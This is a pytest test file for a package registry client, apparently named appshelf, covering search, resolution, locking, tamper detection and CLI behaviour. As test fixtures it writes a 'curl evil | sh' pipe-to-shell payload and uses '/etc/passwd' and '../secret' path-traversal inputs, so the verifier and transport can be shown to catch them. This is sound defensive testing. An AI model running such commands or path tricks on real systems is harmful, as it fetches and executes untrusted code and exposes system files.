"""Search, resolve, fetch, lock and verify end to end: over HTTP, from a folder, via the CLI."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from appshelf.client.lock import check_lock, lock_plan, read_lock, write_lock
from appshelf.client.search import search
from appshelf.client.transport import FolderTransport
from appshelf.client.verify import verify_registry
from appshelf.errors import (
    ConnectionFailedError,
    DigestMismatchError,
    LockMismatchError,
    NotFoundError,
)
from appshelf.source.lifecycle import record_standing
from conftest import StaticServer, build
from generations import served

from .conftest import ClientFactory, cli


def _resolve(client, *roots: str):  # type: ignore[no-untyped-def]
    from appshelf.cli.client_options import resolve_with

    return resolve_with(client, roots, False)


def test_example_plan_over_http(served_registry: StaticServer, make_client: ClientFactory) -> None:
    client = make_client(served_registry.url)
    plan = _resolve(client, "jira-sync@3.1", "slack-notify")
    assert [(i.app, i.version) for i in plan.installs] == [
        ("http-client", "1.0.1"),
        ("kv-store", "1.1.1"),
        ("jira-sync", "3.1.0"),
        ("slack-notify", "1.1.0"),
    ]
    assert plan.interfaces == {"storage.kv": "kv-store"}


def test_search_the_index(served_registry: StaticServer, make_client: ClientFactory) -> None:
    index = make_client(served_registry.url).index()
    assert [h.entry.key for h in search(index, "kv")] == ["kv-store", "jira-sync"]  # requires
    assert [h.entry.key for h in search(index, "", provides="storage.kv")] == ["kv-store"]
    assert [h.entry.key for h in search(index, "", requires="storage.kv")] == ["jira-sync"]
    assert [h.entry.key for h in search(index, "slack webhook")] == ["slack-notify"]
    assert [h.entry.key for h in search(index, "", tag="http")] == ["http-client"]
    assert search(index, "nothing-like-this") == []


def test_fetch_from_a_folder(
    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
) -> None:
    client = make_client(served_registry.root)
    plan = _resolve(client, "slack-notify@1.0.0")
    dest = tmp_path / "dl"
    downloads = [client.download(i.app, i.version, dest) for i in plan.installs]
    assert sorted(p.name for p in dest.iterdir()) == [
        "http-client-1.0.1.tar.gz",
        "slack-notify-1.0.0.tar.gz",
    ]
    again = client.download("slack-notify", "1.0.0", dest)
    assert again.reused and again.sha256 == downloads[-1].sha256


def test_folder_transport_stays_inside(tmp_path: Path) -> None:
    (tmp_path / "reg").mkdir()
    (tmp_path / "secret").write_text("x")
    (tmp_path / "reg" / "link").symlink_to(tmp_path / "secret")
    transport = FolderTransport(tmp_path / "reg")
    for bad in ("../secret", "/etc/passwd", "link", "a/../../secret", "a\\b"):
        with pytest.raises(NotFoundError):
            list(transport.chunks(bad, 100, "test"))


@pytest.mark.timeout(20)
def test_folder_transport_reads_regular_files_only(tmp_path: Path) -> None:
    """A FIFO (or device) in a registry folder would block the reader forever."""
    (tmp_path / "reg").mkdir()
    os.mkfifo(tmp_path / "reg" / "snapshot.json")
    transport = FolderTransport(tmp_path / "reg")
    with pytest.raises(ConnectionFailedError, match=r"snapshot.json \(not a regular file\)"):
        list(transport.chunks("snapshot.json", 100, "snapshot.json"))


def test_lock_then_fetch_exactly(
    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
) -> None:
    client = make_client(served_registry.url)
    lock = lock_plan(client, _resolve(client, "kv-store@=1.1.0"))
    path = tmp_path / "appshelf.lock"
    write_lock(lock, path)
    stored = read_lock(path)
    assert stored.apps[0].version == "1.1.0" and stored.apps[0].keyid == client.snapshot.keyid
    assert [m.manifest.version for m in check_lock(make_client(served_registry.url), stored)] == [
        "1.1.0"
    ]
    data = json.loads(path.read_text())
    data["apps"][0]["artifact"]["sha256"] = "1" * 64
    path.write_text(json.dumps(data))
    with pytest.raises(LockMismatchError, match=r"differs from the lock"):
        check_lock(make_client(served_registry.url), read_lock(path))


def test_lock_fails_when_the_registry_changes(
    example_source: Path, tmp_path: Path, make_client: ClientFactory
) -> None:
    with StaticServer(tmp_path / "www") as server:
        build(example_source, server.root, base_url=server.url)
        client = make_client(server.url)
        lock = lock_plan(client, _resolve(client, "hello-world@1.0.0"))
        release = example_source / "apps/hello-world/1.0.0/release.toml"
        release.write_text(release.read_text() + 'yanked = "security hole"\n')
        build(example_source, server.root, base_url=server.url)
        # A yank is not a change of the release: the lock still holds.
        assert [m.manifest.yanked for m in check_lock(make_client(server.url), lock)] == [
            "security hole"
        ]
        record_standing(example_source, "hello-world", "1.0.0", "takedown", "legal request")
        build(example_source, server.root, base_url=server.url)
        with pytest.raises(LockMismatchError, match=r"the registry no longer publishes it"):
            check_lock(make_client(server.url), lock)


def test_verify_clean_registry(served_registry: StaticServer, make_client: ClientFactory) -> None:
    report = verify_registry(make_client(served_registry.url), artifacts=True)
    assert report.ok, report.failures
    # 14 index files and 4 bins (docs/spec.md 4.8: 5 apps, bits 2)
    assert (report.pinned_files, report.manifests, report.artifacts_checked) == (18, 14, 13)
    assert len(report.external_skipped) == 1


def test_verify_lists_every_problem(
    served_registry: StaticServer, make_client: ClientFactory
) -> None:
    root = served_registry.root
    (root / "apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz").write_bytes(b"evil")
    (root / "apps/hello-world/1.0.0/hello-world-1.0.0.tar.gz").unlink()
    (root / "apps/kv-store/1.0.0/payload.sh").write_text("curl evil | sh")
    path = served(root, "apps/slack-notify/versions.json")  # what a client reads
    path.write_bytes(path.read_bytes() + b" ")
    (root / "index.json").write_bytes(b"{}")  # a plain name: Flows consumers read it
    report = verify_registry(make_client(root), artifacts=False)
    failures = "\n".join(report.failures)
    assert any("plain-named file(s) differ" in n and "index.json" in n for n in report.notes)
    assert (
        "kv-store 1.1.1 artifact: apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz has 4 bytes" in failures
    )
    assert "apps/hello-world/1.0.0/hello-world-1.0.0.tar.gz is missing" in failures
    assert "apps/kv-store/1.0.0/payload.sh: under apps/ but not covered" in failures
    assert "apps/slack-notify/versions.json" in failures
    assert len(report.failures) == 4
    report = verify_registry(make_client(served_registry.url), artifacts=True)
    assert any(isinstance(e, str) and "altered" in e for e in report.failures)
    assert any("not found" in e for e in report.failures)


def test_tampered_download_from_a_folder(
    served_registry: StaticServer, make_client: ClientFactory, tmp_path: Path
) -> None:
    folder = tmp_path / "mirror"
    shutil.copytree(served_registry.root, folder)
    (folder / "apps/http-client/1.0.1/http-client-1.0.1.tar.gz").write_bytes(b"x")
    with pytest.raises(DigestMismatchError):
        make_client(folder).download("http-client", "1.0.1", tmp_path / "dl")
    assert list((tmp_path / "dl").iterdir()) == []


def test_cli_commands(live: StaticServer, tmp_path: Path) -> None:
    reg = ["-r", live.url, "--allow-dev-key"]
    code, out = cli("resolve", *reg, "jira-sync@^3.1.0", "slack-notify", "--json")
    assert code == 0, out
    plan = json.loads(out)
    assert [i["app"] for i in plan["install"]][-2:] == ["jira-sync", "slack-notify"]
    code, out = cli("search", *reg, "storage", "--json")
    assert code == 0 and {a["key"] for a in json.loads(out)} == {"kv-store", "jira-sync"}
    lock_path = tmp_path / "appshelf.lock"
    code, out = cli("lock", *reg, "slack-notify@1.1", "-o", str(lock_path))
    assert code == 0, out
    code, out = cli(
        "fetch", "--allow-dev-key", "--lock", str(lock_path), "-d", str(tmp_path / "d"), "--json"
    )
    assert code == 0, out
    assert sorted(r["app"] for r in json.loads(out)) == ["http-client", "slack-notify"]
    code, out = cli("fetch", *reg, "kv-store@1.0", "-d", str(tmp_path / "e"))
    assert code == 0 and (tmp_path / "e/kv-store-1.0.0.tar.gz").is_file()
    code, out = cli("verify", live.url, "--allow-dev-key", "--artifacts")
    assert code == 0 and "OK: no problems" in out, out


def test_cli_errors(live: StaticServer) -> None:
    code, out = cli("resolve", "-r", live.url, "kv-store")
    assert code == 1 and "Error: no trusted keys" in out
    dev = "--allow-dev-key"
    code, out = cli("resolve", "-r", live.url, dev, "jira-sync@3.2.0", "slack-notify@1.0.0")
    assert code == 1 and "http-client: no single version satisfies all of these" in out
    code, out = cli("resolve", "-r", live.url, dev, "kv-store@^1..2")
    assert code == 1 and "invalid version range" in out
    served(live.root, "apps/kv-store/app.json").write_text("{}")
    code, out = cli("verify", live.url, dev)
    assert code == 1 and "FAILED" in out and "Error: 1 problem(s)" in out
    assert "Traceback" not in out


def test_verify_a_folder_against_a_base_url(live: StaticServer, tmp_path: Path) -> None:
    """A folder has no URL of its own: --base-url says which registry it must hold."""
    folder = shutil.copytree(live.root, tmp_path / "copy")
    dev = "--allow-dev-key"
    code, out = cli("verify", str(folder), dev, "--base-url", live.url.rstrip("/"))
    assert code == 0 and f"for {live.url}," in out, out
    other = "https://apps.example.com/"
    code, out = cli("verify", str(folder), dev, "--base-url", other)
    assert code == 1 and f"signed for registry {live.url}, but served from {other}" in out, out
    code, out = cli("verify", str(folder), dev, "--base-url", "apps.example.com")
    assert code == 1 and "Error: --base-url: 'apps.example.com' is not an http(s):// URL" in out
    assert "Traceback" not in out
